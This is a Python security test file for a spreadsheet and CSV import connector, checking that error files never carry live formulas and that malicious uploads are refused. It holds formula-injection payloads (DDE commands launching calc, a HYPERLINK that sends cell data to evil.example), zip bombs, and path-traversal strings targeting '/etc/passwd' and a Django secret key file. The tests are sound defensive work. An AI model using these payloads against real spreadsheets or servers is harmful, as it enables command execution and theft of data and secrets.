"""Files that want to hurt whoever reads them: us at the import, a person's spreadsheet afterwards.

What a stranger wrote into a cell comes back in an error file, so no cell of it may start a formula.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook

from tests.security.scene import Scene
from tests.security.test_permission_matrix import copy_of
from xinheng.connectors.files import read as reading
from xinheng.connectors.files.errors import neutral, write_errors
from xinheng.connectors.files.read import COLUMNS_MAX, Sheet, read_bytes
from xinheng.connectors.files.rows import RowError
from xinheng.intake.models import ImportBatch
from xinheng.refusals import Refused
from xinheng.texts import T

FORMULAS = [
    "=cmd|'/c calc'!A1",
    "+1+cmd|' /C calc'!A1",
    "-2+3+cmd|'x'!A1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=1+1\n=2",
]
RUNS = ("=", "+", "-", "@", "\t", "\r")


def error_file(folder: Path, form: str) -> Path:
    rows = [["发票号", "客户"], *[[text, "C1"] for text in FORMULAS]]
    errors = [
        RowError(n, "发票号", T(f"看不懂 {t}", f"unknown {t}")) for n, t in enumerate(FORMULAS, 2)
    ]
    return write_errors(Sheet("x", form, rows), 1, errors, folder / "back")


def test_no_cell_of_an_error_file_runs_as_a_formula_csv(tmp_path: Path) -> None:
    text = error_file(tmp_path, "csv").read_text("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert len(cells) == 4 * (len(FORMULAS) + 1)
    assert not [cell for cell in cells if cell.startswith(RUNS)]


def test_no_cell_of_an_error_file_runs_as_a_formula_workbook(tmp_path: Path) -> None:
    path = error_file(tmp_path, "xlsx")
    with zipfile.ZipFile(path) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<hyperlink" not in sheet
    rows = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()
    assert [row[0] for row in rows[1:]] == FORMULAS


def test_amounts_keep_their_sign() -> None:
    assert [neutral(cell) for cell in ("-12.50", "+3", "-", "=1")] == ["-12.50", "+3", "'-", "'=1"]


def zipped(name: str, content: bytes, times: int = 1) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for n in range(times):
            archive.writestr(f"{n}{name}" if times > 1 else name, content)
    return made.getvalue()


def workbook(*cells: tuple[int, int, str]) -> bytes:
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        for row, column, text in cells:
            sheet.write_string(row, column, text)
    return made.getvalue()


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(Refused) as refused:
        read_bytes(name, content)
    return str(refused.value.code.name)


def test_a_bomb_is_stopped_at_the_maximum(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "UNPACKED_BYTES_MAX", 1_000_000)
    bomb = zipped("a.csv", b"0" * 1_000_001)
    assert len(bomb) < 3_000 and refusal("a.zip", bomb) == "TOO_LARGE"
    assert refusal("a.xlsx", zipped("xl/sheet.xml", b"0" * 600_000, 2)) == "TOO_LARGE"


HURTING: list[tuple[str, Any, str]] = [
    ("a.zip", lambda: zipped("b.zip", zipped("a.csv", b"a,b\n")), "FORMAT_UNKNOWN"),
    ("a.zip", lambda: zipped("a.csv", b"a,b\n", 3), "ZIP_NOT_ONE"),
    ("a.zip", lambda: zipped("a.csv", b"a,b\n")[:40], "DAMAGED"),
    ("a.xlsx", lambda: b"PK\x03\x04" + b"\x00" * 200, "DAMAGED"),
    ("a.xlsx", lambda: b"<html>not a workbook</html>", "DAMAGED"),
    ("a.csv", lambda: b"a,b\n\x00,1\n", "DAMAGED"),
    ("a.csv", lambda: b"a" + b"," * COLUMNS_MAX + b"\n", "TOO_MANY_COLUMNS"),
    ("a.csv", lambda: b'"' + b"x" * 2_000_000, "DAMAGED"),
    ("a.xlsx", lambda: workbook((0, 0, "a"), (3, COLUMNS_MAX, "z")), "TOO_MANY_COLUMNS"),
    ("a.exe", lambda: b"MZ", "FORMAT_UNKNOWN"),
]


@pytest.mark.parametrize(("name", "content", "code"), HURTING)
def test_a_file_that_wants_to_hurt_is_refused(name: str, content: Any, code: str) -> None:
    assert refusal(name, content()) == code


def test_as_many_columns_as_allowed_are_read() -> None:
    assert len(read_bytes("a.csv", b"a" + b"," * (COLUMNS_MAX - 1) + b"\n").rows[0]) == COLUMNS_MAX


@pytest.mark.django_db
def test_a_path_inside_an_archive_writes_nowhere(tmp_path: Path) -> None:
    sheet = read_bytes("a.zip", zipped("../../../../tmp/evil.csv", b"a,b\n"))
    assert sheet.name == "evil.csv" and list(tmp_path.iterdir()) == []


@pytest.mark.django_db
@pytest.mark.parametrize(
    "kind", ["invoices/../../x", "..", "%2e%2e%2finvoices", "invoices%00", "nothing"]
)
def test_only_templates_are_downloaded_as_templates(scene: Scene, kind: str) -> None:
    client = copy_of(scene.clients["alice"])
    assert client.get(f"/imports/templates/{kind}.csv").status_code == 404


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["../keys/django-secret", "/etc/passwd", "..", "", "a\\..\\b"])
def test_an_error_report_is_a_file_of_its_folder(scene: Scene, name: str) -> None:
    ImportBatch.objects.filter(pk=scene.batch.pk).update(errors_file=name)
    client = copy_of(scene.clients["alice"])
    assert client.get(f"/imports/{scene.batch.pk}/errors").status_code == 404
